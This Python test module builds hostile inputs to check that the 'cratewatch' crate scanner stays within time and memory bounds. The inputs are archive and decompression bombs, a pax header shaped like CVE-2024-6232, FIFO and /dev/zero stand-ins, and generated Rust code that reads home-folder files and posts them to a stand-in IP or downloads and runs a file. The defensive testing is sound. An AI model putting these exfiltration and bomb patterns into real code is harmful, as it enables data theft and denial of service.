"""Hostile inputs, one per shape an attacker (or a broken mirror) can give each command,
and a runner that measures how a whole ``cratewatch`` process copes with one.

Every case builds its input in a scratch folder and names the command line to run on
it. The promise each case checks: the process ends in bounded time and memory (under
``MAX_SECONDS``, or the case's own ``seconds``, and ``MAX_RSS_MB``), with an exit code
that is not success where success would be a lie, and with no traceback or "internal
error". ``tests/hostile`` asserts it;
``benchmarks/hostile_inputs.py`` prints each case's figures.
"""

from __future__ import annotations

import atexit
import functools
import gzip
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from tests.scan.hostile import end, header, member, pax, write_crate

MAX_SECONDS = 5.0
MAX_RSS_MB = 500.0
_KILL_AFTER = 60.0  # a hang is a failure, not a stuck test run

SHARED = Path(__file__).resolve().parents[2].parent / "shared" / "data"
LOCKFILE = SHARED / "cargo-locks" / "sharkdp__bat__2020-01-06__0418e6294b0f.Cargo.lock"
MANIFEST = b'[package]\nname = "x"\nversion = "1.0.0"\n'


class Case(NamedTuple):
    name: str
    build: Callable[[Path], list[str]]  # scratch folder -> the command's arguments
    exit_codes: frozenset[int]  # what the process may exit with
    seconds: float = MAX_SECONDS  # the time it may take


class Outcome(NamedTuple):
    seconds: float
    rss_mb: float
    exit_code: int
    stderr: str
    stdout: str


# Runs cratewatch and, as it exits, writes its peak resident memory (VmHWM: the high
# water mark of this program's own memory map). ``wait4``'s ru_maxrss would not do: on
# Linux it keeps the peak from before ``exec``, which for a child forked from a large test
# process is that process's size.
_MEASURED = """
import atexit, runpy, sys
where = sys.argv[1]
def report():
    with open("/proc/self/status") as status, open(where, "w") as out:
        out.write(next(line.split()[1] for line in status if line.startswith("VmHWM:")))
atexit.register(report)
sys.argv = ["cratewatch", *sys.argv[2:]]
runpy.run_module("cratewatch", run_name="__main__", alter_sys=True)
"""


# Compiles the pattern databases a first run of cratewatch keeps in its cache
# (``scan/prefilter.py``: the rules' and the data flow hints')
_COMPILE = (
    "from cratewatch.scan.analyze import prepare; prepare(); "
    "from cratewatch.scan.dataflow.hints import text_hints; text_hints(b'')"
)


@functools.cache
def _compiled_databases() -> Path:
    """The pattern databases, compiled once for all cases and copied into each case's
    empty cache: a case's time is what its input costs, not the second or so of
    compiling that an installed cratewatch did once, long before any hostile input."""
    folder = Path(tempfile.mkdtemp(prefix="cratewatch-hostile-"))
    atexit.register(shutil.rmtree, folder, True)
    env = {**os.environ, "CRATEWATCH_CACHE_DIR": str(folder)}
    subprocess.run([sys.executable, "-c", _COMPILE], env=env, check=True, capture_output=True)
    return folder / "prefilter"


def run_case(case: Case, scratch: Path) -> Outcome:
    """Run ``cratewatch`` on the case's input in a child process, with an empty cache
    but for the compiled pattern databases; its wall time and peak resident memory."""
    args = case.build(scratch)
    if _compiled_databases().is_dir():
        shutil.copytree(_compiled_databases(), scratch / "cache" / "prefilter", dirs_exist_ok=True)
    peak = scratch / "peak-kb"
    env = {**os.environ, "CRATEWATCH_CACHE_DIR": str(scratch / "cache"), "NO_COLOR": "1"}
    started = time.monotonic()
    try:
        child = subprocess.run(
            [sys.executable, "-c", _MEASURED, str(peak), *args],
            capture_output=True,
            stdin=subprocess.DEVNULL,
            env=env,
            cwd=scratch,
            timeout=_KILL_AFTER,
            check=False,
        )
    except subprocess.TimeoutExpired as hung:
        return Outcome(_KILL_AFTER, 0.0, -9, str(hung), "")
    seconds = time.monotonic() - started
    rss_kb = float(peak.read_text()) if peak.is_file() else float("inf")
    return Outcome(
        seconds,
        rss_kb / 1024,
        child.returncode,
        child.stderr.decode("utf-8", "replace"),
        child.stdout.decode("utf-8", "replace"),
    )


# -- scan and diff: archives -------------------------------------------------------------


def _crate(tar: bytes, level: int = 1) -> Callable[[Path], list[str]]:
    def build(scratch: Path) -> list[str]:
        return ["scan", str(write_crate(scratch / "x-1.0.0.crate", tar, level))]

    return build


def _diff(tar: bytes) -> Callable[[Path], list[str]]:
    def build(scratch: Path) -> list[str]:
        good = write_crate(scratch / "x-0.9.0.crate", member(b"x-0.9.0/Cargo.toml", MANIFEST))
        return ["diff", str(good), str(write_crate(scratch / "x-1.0.0.crate", tar))]

    return build


def _ratio_bomb(scratch: Path) -> list[str]:
    """400 MB of zero-filled members in about 400 kB: stops at the ratio budget."""
    crate = scratch / "x-1.0.0.crate"
    chunk = bytes(1 << 20)
    with gzip.open(crate, "wb", compresslevel=9) as out:
        for i in range(400):
            out.write(member(b"x-1.0.0/data/%d.bin" % i, chunk))
        out.write(end())
    return ["scan", str(crate)]


def _source(data: bytes) -> Callable[[Path], list[str]]:
    files = member(b"x-1.0.0/Cargo.toml", MANIFEST) + member(b"x-1.0.0/src/lib.rs", data)
    return _crate(files + end(), level=0)  # stored: the source itself is the test


def _dense_data_flow(scratch: Path) -> list[str]:
    """Six files of 167 functions (1,000: the most a unit's data flow follows), each
    reading a file in the home folder, passing what it holds to 20 others and sending it:
    labels must stop growing in bounded visits, not once per path."""
    functions, parts = 1_000, 6
    per_part = -(-functions // parts)
    files = member(b"x-1.0.0/Cargo.toml", MANIFEST)
    for part in range(parts):
        body = [b"mod m%d;\n" % n for n in range(1, parts)] if part == 0 else []
        for i in range(part * per_part, min((part + 1) * per_part, functions)):
            calls = b" ".join(
                b"f%d(d.clone() + &t);" % ((i * 7_919 + k * 104_729) % functions) for k in range(20)
            )
            body.append(
                b'pub fn f%d(d: String) { let h = std::env::var_os("HOME").unwrap(); '
                b'let t = std::fs::read_to_string(std::path::Path::new(&h).join("k%d")).unwrap(); '
                b'%s ureq::post("http://192.0.2.1/").send_string(&d); }\n' % (i, i, calls)
            )
        name = b"x-1.0.0/src/lib.rs" if part == 0 else b"x-1.0.0/src/m%d.rs" % part
        files += member(name, b"".join(body))
    crate = write_crate(scratch / "x-1.0.0.crate", files + end())
    return ["scan", str(crate)]


def _endless_decoders(scratch: Path) -> list[str]:
    """500 calls of decoders the interpreter runs (``interpret/``): each loops for ever
    while growing a string, or builds nested arrays of 4 Gi elements; the steps per call
    and per unit must stop them all."""
    body = [
        b"fn spin(n: u32) -> String { let mut s = String::new(); "
        b"loop { s.push((n as u8 ^ 0x20) as char); s = s.clone() + &s; } }\n",
        b"fn grow(n: u32) -> String { let k = (n as u8 ^ 1) as char; "
        b"let v = [[0u8; 65536]; 65536]; let w = vec![v; 65536]; k.to_string() }\n",
    ]
    calls = b"".join(
        b'ureq::post(&%s(%d)).send_string("x");\n' % (b"spin" if i % 2 else b"grow", i)
        for i in range(500)
    )
    body.append(b"pub fn go() {\n" + calls + b"}\n")
    return _source(b"".join(body))(scratch)


def _endless_inline_decoders(scratch: Path) -> list[str]:
    """5,000 ``let`` statements that make text of a constant from an endless iterator, and
    a ``lazy_static!`` whose initialiser doubles a string for ever: the lets evaluated
    per unit and the unit's steps must stop them."""
    lets = b"".join(
        b"    let a%d = String::from_utf8((0..).map(|i| K[i %% 4] ^ 0x%02x).collect()).unwrap();\n"
        % (i, i % 256)
        for i in range(5_000)
    )
    body = (
        b"const K: [u8; 4] = [1, 2, 3, 4];\n"
        b'lazy_static! { static ref T: String = { let mut s = String::from("a"); '
        b"loop { s = s.clone() + &s; } }; }\n"
        b"pub fn go() {\n" + lets + b"    ureq::post(&T).send_string(&a0);\n}\n"
    )
    return _source(body)(scratch)


def _clock_against_endless_dates(scratch: Path) -> list[str]:
    """15,000 comparisons of the clock, through a chain of helpers, with dates the
    interpreter computes by loops that never end (``dates.py``): the steps per unit
    must stop them, and the helpers' chain is followed only a few calls deep."""
    body = [
        b"use std::time::{SystemTime, UNIX_EPOCH};\n",
        b"fn t0() -> u64 { SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() }\n",
    ]
    body += [b"fn t%d() -> u64 { t%d() }\n" % (i + 1, i) for i in range(50)]
    body.append(b"fn date(n: u64) -> u64 { let mut d = n; loop { d = d.wrapping_mul(3); } }\n")
    checks = b"".join(
        b"    if t2() > date(%d) { std::process::exit(0); }\n" % i for i in range(15_000)
    )
    body.append(b"pub fn go() {\n" + checks + b"}\n")
    return _source(b"".join(body))(scratch)


def _lets_and_guards_beside_the_clock(scratch: Path) -> list[str]:
    """10,000 lets, each followed by a comparison of the clock with a local that a loop
    never ending makes, and 5,000 ``matches!`` guards on the clock, in one function: the
    lets run before each comparison are the few just before it (``dates.MAX_LETS``, found
    by position, not by a walk of all of them), the guards read are bounded
    (``dates.MAX_MACROS``), and the steps per unit stop the loops."""
    body = [
        b"use std::time::{SystemTime, UNIX_EPOCH};\n",
        b"fn now() -> u64 { SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() }\n",
        b"fn date(n: u64) -> u64 { let mut d = n; loop { d = d.wrapping_mul(3); } }\n",
        b"pub fn go() {\n",
    ]
    body += [
        b"    let d%d = date(%d);\n    if now() > d%d { std::process::exit(0); }\n" % (i, i, i)
        for i in range(10_000)
    ]
    body += [b"    let _ = matches!(Some(%d), Some(d) if now() > d);\n" % i for i in range(5_000)]
    body.append(b"}\n")
    return _source(b"".join(body))(scratch)


def _operations_beside_a_date(scratch: Path) -> list[str]:
    """4,000 conversions (a file just under the parse bound), each calling a date gate,
    and 2,000 `include_str!`s of one script, beside a file of one line of 10,000 more: the
    operations read beside the gate are bounded (``dates.MAX_OPERATIONS``, each snippet
    cut from its line), and the embedded script is scanned once in the library's context."""
    head = (
        b"use std::time::{SystemTime, UNIX_EPOCH};\n"
        b"fn late() -> bool { SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs()"
        b" >= 1_830_297_600 }\n"
    )
    impls = b"".join(
        b"pub struct A%d(pub u64); pub struct B%d(pub u64);\n"
        b"impl From<A%d> for B%d { fn from(a: A%d) -> B%d { B%d(if late() { a.0 - 1 } else "
        b"{ a.0 }) } }\n" % ((i,) * 7)
        for i in range(4_000)
    )
    scripts = b"".join(
        b'pub const S%d: &str = include_str!("../js/prelude.js");\n' % i for i in range(2_000)
    )
    script = b"import(String.fromCharCode(...K.map((c, i) => c ^ i)));\n" * 1_000
    # ... and a file of one 500 kB line of conversions: each snippet bounded, not the line
    line = b"impl From<C> for D { fn from(c: C) -> D { D(c.0) } } " * 10_000 + b"\n"
    files = member(b"x-1.0.0/Cargo.toml", MANIFEST)
    files += member(b"x-1.0.0/src/lib.rs", head + b"mod a_line;\n" + impls + scripts)
    files += member(b"x-1.0.0/src/a_line.rs", line)
    files += member(b"x-1.0.0/js/prelude.js", script)
    return ["scan", str(write_crate(scratch / "x-1.0.0.crate", files + end()))]


def _numbered_variants(manifest: bytes) -> Callable[[Path], list[str]]:
    """40 enums that number the same 1,000 variants, a table of 3,000 of them cast to
    numbers by a decoder (``interpret/``), and 2,000 reads of the package's name from
    ``manifest``: each enum's numbers are worked out once, the manifest parsed once."""
    enums = b"\n".join(
        b"pub enum E%d { %s }" % (k, b", ".join(b"V%d" % i for i in range(1_000)))
        for k in range(40)
    )
    table = b", ".join(b"V%d" % (i * 7 % 1_000) for i in range(3_000))
    names = b" ".join(b's.push_str(env!("CARGO_PKG_NAME"));' for _ in range(2_000))
    body = (
        enums
        + b"\nuse E0::*;\nconst T: &[E0] = &[%s];\n" % table
        + b"fn dec(t: &[E0]) -> String { "
        b"t.iter().map(|v| ((*v as u32 %% 26) as u8 + b'a') as char).collect() }\n"
        + b"fn key() -> String { let mut s = String::new(); %s s }\n" % names
        + b"pub fn go() { let _ = ureq::post(&dec(T)).send_string(&key()); }\n"
    )
    files = member(b"x-1.0.0/Cargo.toml", manifest) + member(b"x-1.0.0/src/lib.rs", body)

    def build(scratch: Path) -> list[str]:
        return ["scan", str(write_crate(scratch / "x-1.0.0.crate", files + end()))]

    return build


def _dense_call_graph(scratch: Path) -> list[str]:
    """Three files of 1,000 functions, each calling 100 others and taking the steps of a
    download-and-run, so that the call graph is built and every function reaches every
    other: each search must stop early, not cover the graph once per function."""
    functions = 3_000
    files = member(b"x-1.0.0/Cargo.toml", MANIFEST)
    for part in range(3):
        body = [b"mod m1;\nmod m2;\n"] if part == 0 else []
        if part == 0:
            body.append(
                b'pub fn fetch() { let _ = ureq::get("http://192.0.2.1/"); }\n'
                b'pub fn run(p: &str) { let _ = std::fs::write(p, b""); '
                b"let _ = std::process::Command::new(p).spawn(); }\n"
            )
        for i in range(part * 1_000, (part + 1) * 1_000):
            calls = b" ".join(
                b"f%d();" % ((i * 7_919 + k * 104_729) % functions) for k in range(100)
            )
            body.append(b'pub fn f%d() { %s fetch(); run("x"); }\n' % (i, calls))
        name = b"x-1.0.0/src/lib.rs" if part == 0 else b"x-1.0.0/src/m%d.rs" % part
        files += member(name, b"".join(body))
    crate = write_crate(scratch / "x-1.0.0.crate", files + end())
    return ["scan", str(crate)]


_PAX_BLOWUP = member(b"pax", b"1" * 60_000, b"x")  # CVE-2024-6232's shape
_PAX_RECORDS = pax({b"path": b"x-1.0.0/src/lib.rs", **{b"k%d" % i: b"v" for i in range(3000)}})
_LITERALS = b'"https://discord.com/api/webhooks/1/x", ' * 100_000

SCAN = [
    Case("scan: pax header in CVE-2024-6232's shape", _crate(_PAX_BLOWUP + end()), frozenset({1})),
    Case("scan: 3,000 pax records", _crate(_PAX_RECORDS + end()), frozenset({0})),
    Case(
        "scan: a 1 GiB GNU long-name record",
        _crate(header(b"././@LongLink", 1 << 30, b"L") + bytes(1 << 20)),
        frozenset({1}),
    ),
    Case(
        "scan: a negative member size",
        _crate(header(b"x-1.0.0/a.rs", size_field=b"\xff" * 12) + end()),
        frozenset({1}),
    ),
    Case(
        "scan: a 2 GiB member (gzip bomb header)",
        _crate(header(b"x-1.0.0/src/lib.rs", 2 << 30) + bytes(1 << 20)),
        frozenset({1}),
    ),
    Case("scan: 400 MB of zeros in 400 kB", _ratio_bomb, frozenset({1})),
    Case(
        "scan: a truncated member",
        _crate(
            member(b"x-1.0.0/Cargo.toml", MANIFEST) + member(b"x-1.0.0/a.rs", b"x" * 5000)[:1500]
        ),
        frozenset({1}),
    ),
    Case(
        "scan: 15 MB of nested braces", _source(b"{" * 7_500_000 + b"}" * 7_500_000), frozenset({0})
    ),
    Case(
        "scan: 1 MB of nested braces (parsed)",
        _source(b"fn f() " + b"{" * 500_000 + b"}" * 500_000),
        frozenset({0}),
    ),
    Case(
        "scan: unsafe in 1 MB of nested gated modules (lexed)",
        _source(b"#[cfg(x)] mod a {\n" * 30_000 + b"fn f() { unsafe {} }\n" + b"}\n" * 30_000),
        frozenset({0}),
    ),
    Case(
        "scan: a module declared in 1 MB of nested modules (lexed)",
        _source(b"mod a {\n" * 60_000 + b"mod b;\n" * 20_000 + b"}\n" * 60_000),
        frozenset({0}),
    ),
    Case(
        "scan: 30,000 unsafe blocks in test items (lexed)",
        _source(b"#[test] fn t() { unsafe { g() } }\n" * 30_000),
        frozenset({0}),
    ),
    Case(
        "scan: 60,000 extern ABIs and comments before no brace (lexed)",
        _source(b'pub extern /* "C" */ "C" fn f() {}\n// extern /*\n' * 30_000),
        frozenset({0}),
    ),
    Case(
        "scan: 20,000 gated statements that never end, and unsafe code (lexed)",
        _source(b"fn f() { " + b"#[cfg(a)] if x " * 20_000 + b"; unsafe { g() } }"),
        frozenset({0}),
    ),
    Case(
        "scan: a 4 MB line of literals",
        _source(b"fn f() { let v = [" + _LITERALS + b"]; }"),
        frozenset({0, 1}),
    ),
    Case(
        "scan: a 1 MB line of literals (parsed)",
        _source(b"fn f() { let v = [" + _LITERALS[: 1 << 20] + b"]; }"),
        frozenset({0, 1}),
    ),
    # (2.6 s on a 2-core machine, about 5.7 s on a day it runs at half speed)
    Case("scan: a dense call graph (3,000 functions)", _dense_call_graph, frozenset({0, 1}), 8.0),
    # (the heaviest by design, at the unit's function bound: 3 to 5 s on a 2-core machine,
    # twice that on a day it runs at half speed; the base of the release before took as long)
    Case("scan: a dense data flow (1,000 functions)", _dense_data_flow, frozenset({0, 1}), 12.0),
    Case("scan: 500 decoders that never end", _endless_decoders, frozenset({0, 1})),
    Case(
        "scan: 10,000 lets and 5,000 matches! guards beside the clock",
        _lets_and_guards_beside_the_clock,
        frozenset({0, 1}),
    ),
    Case(
        "scan: 4,000 conversions beside a date gate, 2,000 embedded scripts",
        _operations_beside_a_date,
        frozenset({0, 1}),
    ),
    Case(
        "scan: 40 enums of 1,000 variants cast to numbers",
        _numbered_variants(MANIFEST + b"\n# %s\n" % (b"x" * 60_000)),
        frozenset({0, 1}),
    ),
    Case(
        "scan: the package's name read from a 30,000-deep manifest",
        _numbered_variants(MANIFEST + b"z = %s%s\n" % (b"[" * 30_000, b"]" * 30_000)),
        frozenset({0, 1, 3}),
    ),
    Case("scan: 5,000 inline decoders that never end", _endless_inline_decoders, frozenset({0, 1})),
    Case(
        "scan: the clock against 15,000 dates that never end",
        _clock_against_endless_dates,
        frozenset({0, 1}),
    ),
    Case(
        "scan: a web page of 60,000 escaped literals docs.rs shows",
        _crate(
            member(
                b"x-1.0.0/Cargo.toml",
                MANIFEST
                + b'[package.metadata.docs.rs]\nrustdoc-args = ["--html-in-header", "h.html"]\n',
            )
            + member(
                b"x-1.0.0/h.html",
                b'var a = ["\\u{1d5c1}\\u{1d5cd}\\u{1d5cd}\\u{1d5c9}://aGVsbG8gd29ybGQ=", '
                b"'%68%74%74%70%73%3a'];\n" * 30_000,
            )
            + end(),
            level=0,
        ),
        frozenset({0, 1}),
    ),
    Case(
        "scan: 40,000 C constructors in one file",
        _crate(
            member(b"x-1.0.0/Cargo.toml", MANIFEST)
            + member(
                b"x-1.0.0/csrc/init.c",
                b"int x; __attribute__((constructor)) static void f(void) { x(); x(); }\n" * 40_000,
            )
            + end(),
            level=0,
        ),
        frozenset({0, 1}),
    ),
    Case(
        "diff: pax header in CVE-2024-6232's shape", _diff(_PAX_BLOWUP + end()), frozenset({0, 1})
    ),
    Case(
        "diff: a 1 GiB GNU long-name record",
        _diff(header(b"././@LongLink", 1 << 30, b"L") + bytes(1 << 20)),
        frozenset({0, 1}),
    ),
]


# -- special files and nesting in the other commands -------------------------------------


def _fifo(scratch: Path, name: str) -> Path:
    path = scratch / name
    os.mkfifo(path)
    return path


def _zero_link(scratch: Path, name: str) -> Path:
    path = scratch / name
    path.symlink_to("/dev/zero")
    return path


def _deep_lockfile(scratch: Path) -> list[str]:
    path = scratch / "Cargo.lock"
    path.write_text("version = 3\nx = " + "[" * 1000 + "]" * 1000 + "\n")
    return ["audit", str(path)]


def _deep_manifest(scratch: Path) -> list[str]:
    project = scratch / "project"
    project.mkdir()
    (project / "Cargo.lock").write_bytes(LOCKFILE.read_bytes())
    (project / "Cargo.toml").write_text("[package]\nx = " + "[" * 1000 + "]" * 1000 + "\n")
    return ["audit", "--no-config", str(project / "Cargo.toml")]


def _db_with(entry: Callable[[Path], object]) -> Callable[[Path], list[str]]:
    def build(scratch: Path) -> list[str]:
        db = scratch / "advisory-db" / "crates" / "smallvec"
        db.mkdir(parents=True)
        source = SHARED / "advisory-db" / "crates" / "smallvec"
        for advisory in sorted(source.iterdir())[:3]:
            (db / advisory.name).write_bytes(advisory.read_bytes())
        entry(db)
        return ["audit", "--no-config", "--db", str(scratch / "advisory-db"), str(LOCKFILE)]

    return build


def _slow_front_matter(db: Path) -> None:
    """A 128 kB advisory whose front matter never closes."""
    (db / "RUSTSEC-2099-0001.md").write_text("```toml\n" + "```\n+" * 32_000)


def _deep_osv(scratch: Path) -> list[str]:
    db = scratch / "osv"
    db.mkdir()
    (db / "RUSTSEC-2099-0002.json").write_text("[" * 100_000 + "]" * 100_000)
    return ["audit", "--no-config", "--db", str(db), str(LOCKFILE)]


def _index_with(line: str, command: str = "audit") -> Callable[[Path], list[str]]:
    def build(scratch: Path) -> list[str]:
        index = scratch / "index"
        (index / "sm" / "al").mkdir(parents=True)
        (index / "config.json").write_text(json.dumps({"dl": "http://127.0.0.1:9/api"}))
        (index / "sm" / "al" / "smallvec").write_text(line + "\n")
        if command == "ingest":
            return ["ecosystem", "ingest", "--index", str(index), "--store", str(scratch / "s")]
        return ["audit", "--no-config", "--index", str(index), str(LOCKFILE)]

    return build


_KIND_LIST = json.dumps(
    {
        "name": "smallvec",
        "vers": "0.6.10",
        "deps": [{"name": "a", "req": "^1", "kind": ["normal"], "features": []}],
        "cksum": "0" * 64,
        "features": {},
        "yanked": False,
    }
)

OTHERS = [
    Case(
        "audit: a FIFO as --config",
        lambda s: ["audit", "--config", str(_fifo(s, "c.toml")), str(LOCKFILE)],
        frozenset({2}),
    ),
    Case(
        "audit: /dev/zero as --config",
        lambda s: ["audit", "--config", str(_zero_link(s, "c.toml")), str(LOCKFILE)],
        frozenset({2}),
    ),
    Case(
        "audit: a FIFO as the lockfile",
        lambda s: ["audit", "--no-config", str(_fifo(s, "Cargo.lock"))],
        frozenset({3}),
    ),
    Case(
        "audit: /dev/zero as the lockfile",
        lambda s: ["audit", "--no-config", str(_zero_link(s, "Cargo.lock"))],
        frozenset({3}),
    ),
    Case("audit: a 1,000-deep Cargo.lock", _deep_lockfile, frozenset({3})),
    Case("audit: a 1,000-deep Cargo.toml", _deep_manifest, frozenset({0, 1, 3})),
    Case(
        "audit: a FIFO in the advisory database",
        _db_with(lambda db: os.mkfifo(db / "RUSTSEC-2099-0003.md")),
        frozenset({0, 1}),
    ),
    Case(
        "audit: /dev/zero in the advisory database",
        _db_with(lambda db: (db / "RUSTSEC-2099-0004.md").symlink_to("/dev/zero")),
        frozenset({0, 1}),
    ),
    Case("audit: a 128 kB front matter", _db_with(_slow_front_matter), frozenset({0, 1})),
    Case("audit: a 100,000-deep OSV record", _deep_osv, frozenset({3})),
    Case(
        "audit: a 100,000-deep index line",
        _index_with("[" * 100_000 + "]" * 100_000),
        frozenset({0, 1, 3}),
    ),
    Case(
        "audit: an index dependency kind that is a list", _index_with(_KIND_LIST), frozenset({0, 1})
    ),
]

OTHERS += [
    Case(
        "ingest: a 100,000-deep index line",
        _index_with("[" * 100_000 + "]" * 100_000, "ingest"),
        frozenset({0, 3}),
    ),
    Case(
        "ingest: an index dependency kind that is a list",
        _index_with(_KIND_LIST, "ingest"),
        frozenset({0, 3}),
    ),
]

CASES = SCAN + OTHERS
